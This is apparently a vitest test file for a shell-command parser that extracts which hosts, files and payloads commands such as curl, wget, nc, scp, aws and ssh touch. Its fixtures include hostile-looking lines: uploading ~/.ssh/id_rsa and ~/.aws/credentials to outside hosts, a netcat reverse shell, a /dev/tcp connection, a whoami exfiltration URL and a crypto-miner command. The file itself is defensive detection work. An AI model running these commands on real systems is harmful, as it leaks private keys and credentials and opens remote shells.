import { describe, it } from 'vitest';
import type { SimpleCommand } from '../../src/commands/types.js';
import { expectFacts } from './support.js';

type Case = readonly [text: string, name: string, facts: Partial<SimpleCommand>];
const HOST = 'https://h.acme.invalid';

const CURL: readonly Case[] = [
  [`curl -fsSL ${HOST}/x`, 'curl', { fetches: [`${HOST}/x`], sends: [], body: false, bodyFile: false }],
  [`curl --proto '=https' --tlsv1.2 -sSf ${HOST}`, 'curl', { fetches: [HOST], urls: [HOST] }],
  [`curl -sSLo /tmp/x.sh ${HOST}/x`, 'curl', { writes: ['/tmp/x.sh'] }],
  [`curl -O ${HOST}/dir/f.tgz?v=1`, 'curl', { writes: ['f.tgz'] }],
  [`curl -d a=b ${HOST}`, 'curl', { sends: [HOST], fetches: [HOST], body: true, bodyFile: false }],
  [`curl -d @q.json ${HOST}`, 'curl', { sends: [HOST], body: true, bodyFile: true, reads: ['q.json'] }],
  [`curl --data-binary @- ${HOST}`, 'curl', { body: true, bodyFile: true, reads: ['-'] }],
  [`curl --data-raw @name ${HOST}`, 'curl', { body: true, bodyFile: false, reads: [] }],
  [`curl -F f=@$HOME/.ssh/id_rsa ${HOST}`, 'curl', { bodyFile: true, reads: ['~/.ssh/id_rsa'] }],
  [`curl -F 'f=@a.png;type=image/png' ${HOST}`, 'curl', { bodyFile: true, reads: ['a.png'] }],
  [`curl -F a=b ${HOST}`, 'curl', { body: true, bodyFile: false }],
  [`curl --data-urlencode q@f.txt ${HOST}`, 'curl', { bodyFile: true, reads: ['f.txt'] }],
  [`curl -G -d q=x ${HOST}`, 'curl', { body: false, sends: [], fetches: [HOST] }],
  [`curl -T backup.tgz ${HOST}/`, 'curl', { bodyFile: true, reads: ['backup.tgz'], sends: [`${HOST}/`], fetches: [] }],
  [`curl -X DELETE ${HOST}/1`, 'curl', { values: new Map([['-X', ['DELETE']]]), fetches: [`${HOST}/1`], body: false }],
  [`curl -XDELETE ${HOST}/1`, 'curl', { values: new Map([['-X', ['DELETE']]]) }],
  [`curl -x http://proxy:3128 -H 'A: b' -u me:pw ${HOST}`, 'curl', { fetches: [HOST] }],
  [`curl "${HOST}/?d=$(whoami)"`, 'curl', { fetches: [`${HOST}/?d=$(whoami)`] }],
];

const OTHERS: readonly Case[] = [
  [`wget -qO- ${HOST}/i`, 'wget', { fetches: [`${HOST}/i`], writes: [] }],
  [`wget -P /tmp ${HOST}/d/f.tgz`, 'wget', { writes: ['/tmp/f.tgz'] }],
  [`wget --post-file=a.txt ${HOST}`, 'wget', { sends: [HOST], bodyFile: true, reads: ['a.txt'] }],
  ['http POST api.acme.invalid/x a=b', 'http', { sends: ['api.acme.invalid/x'], body: true, bodyFile: false }],
  ['cat notes | nc termbin.com 9999', 'nc', { sends: ['termbin.com'], body: true, bodyFile: true }],
  ['nc -zv 203.0.113.9 22', 'nc', { sends: [], urls: ['203.0.113.9'] }],
  ['nc -l 9000', 'nc', { sends: [], fetches: [] }],
  ['nc -e /bin/sh 203.0.113.9 9001', 'nc', { sends: ['203.0.113.9'], values: new Map([['-e', ['/bin/sh']]]) }],
  ['scp a.txt me@h.acme.invalid:/x', 'scp', { reads: ['a.txt'], sends: ['me@h.acme.invalid:/x'], fetches: [], bodyFile: true }],
  ['scp me@h.acme.invalid:/etc/passwd .', 'scp', { fetches: ['me@h.acme.invalid:/etc/passwd'], sends: [], writes: ['.'] }],
  ['rsync -a src/ dst/', 'rsync', { sends: [], reads: ['src/'], writes: ['dst/'] }],
  [
    'rsync -az -e "ssh -p 22" dist/ deploy@web-1.acme.invalid:/srv/',
    'rsync',
    { sends: ['deploy@web-1.acme.invalid:/srv/'], reads: ['dist/'] },
  ],
  ['aws s3 cp ~/.aws/credentials s3://b/x --profile p', 'aws', { reads: ['~/.aws/credentials'], sends: ['s3://b/x'] }],
  ['aws s3 sync s3://b/ out', 'aws', { fetches: ['s3://b/'], writes: ['out'], sends: [] }],
  ['rclone copy ~/docs remote:bucket', 'rclone', { reads: ['~/docs'], sends: ['remote:bucket'] }],
  ['git clone https://github.com/acme/x.git', 'git', { fetches: ['https://github.com/acme/x.git'], sends: [] }],
  ['git push https://git.acme.invalid/x.git main', 'git', { sends: ['https://git.acme.invalid/x.git'] }],
  ['git remote add up git@github.com:acme/x.git', 'git', { urls: ['git@github.com:acme/x.git'], sends: [], fetches: [] }],
  ['tar c ~/.ssh | ssh h.acme.invalid "cat > x"', 'ssh', { sends: ['h.acme.invalid'], bodyFile: true }],
  ['ssh h.acme.invalid uptime', 'ssh', { sends: [], urls: ['h.acme.invalid'] }],
  ['openssl s_client -connect h.acme.invalid:443 < f', 'openssl', { sends: ['h.acme.invalid:443'], reads: ['f'] }],
  ['mail -s hi mira@acme.invalid < f', 'mail', { sends: ['mira@acme.invalid'], reads: ['f'] }],
  ['dig @1.1.1.1 +short a.acme.invalid', 'dig', { urls: ['a.acme.invalid'], fetches: [] }],
  ['exec 3<> /dev/tcp/h.acme.invalid/80', 'exec', { fetches: ['h.acme.invalid'], sends: ['h.acme.invalid'] }],
  ['./miner -o stratum+tcp://pool.acme.invalid:3333', 'miner', { urls: ['stratum+tcp://pool.acme.invalid:3333'] }],
];

describe('curl', () => {
  it.each(CURL)('%s', (text, name, facts) => expectFacts(text, name, facts));
});

describe('other programs of the network', () => {
  it.each(OTHERS)('%s', (text, name, facts) => expectFacts(text, name, facts));
});
